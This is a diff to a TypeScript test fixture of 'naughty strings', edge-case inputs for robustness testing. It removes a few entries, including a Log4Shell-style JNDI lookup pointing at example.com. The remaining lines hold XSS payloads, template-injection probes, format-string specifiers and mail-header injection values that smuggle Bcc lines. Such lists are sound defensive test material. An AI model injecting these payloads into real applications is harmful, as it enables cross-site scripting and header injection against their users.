@@ -36,10 +36,8 @@ export const naughtyStrings: readonly string[] = [
   // Read as numbers, dates or names by other programs.
   '-1e400',
   '0x1F 1_000 ٣٫١٤ NaN -Infinity',
-  '2026-02-30T24:00:60Z',
   'null',
   '__proto__',
-  'CON.txt',
   // Quotes, escapes, encodings.
   `"'\`"'’«»„“「」`,
   '()[]{}<>][}{)(&|;:,./\\?#%@$*=~!^_',
@@ -47,7 +45,6 @@ export const naughtyStrings: readonly string[] = [
   '\\0\\n\\x41\\u{1F600}\\ud800 ends with a backslash\\',
   '&amp;&#0;&#x1F600;&#xD800;&notit;&lt',
   '=?utf-8?q?=E9?= =C3=A9 Ã© â€™ +ADw-script+AD4-',
-  'a=1&b=2&a[]=3;c',
   // Markup.
   '</textarea></title></style></script><script>document.title = "taken"</script>',
   `"'><img src=x onerror="document.title = 'taken'">`,
@@ -65,7 +62,6 @@ export const naughtyStrings: readonly string[] = [
   // Templates.
   '%s%n%.1000000f {0} {field} {email} {{7*7}} ${7*7} #{7*7}',
   "$& $$ $` $' $<name> \\1",
-  '${jndi:ldap://example.com/a}',
   // Mail and addresses.
   'a\r\nBcc: everyone@example.com',
   'a\u2028Bcc: everyone@example.com\u0085Cc: b@example.com',
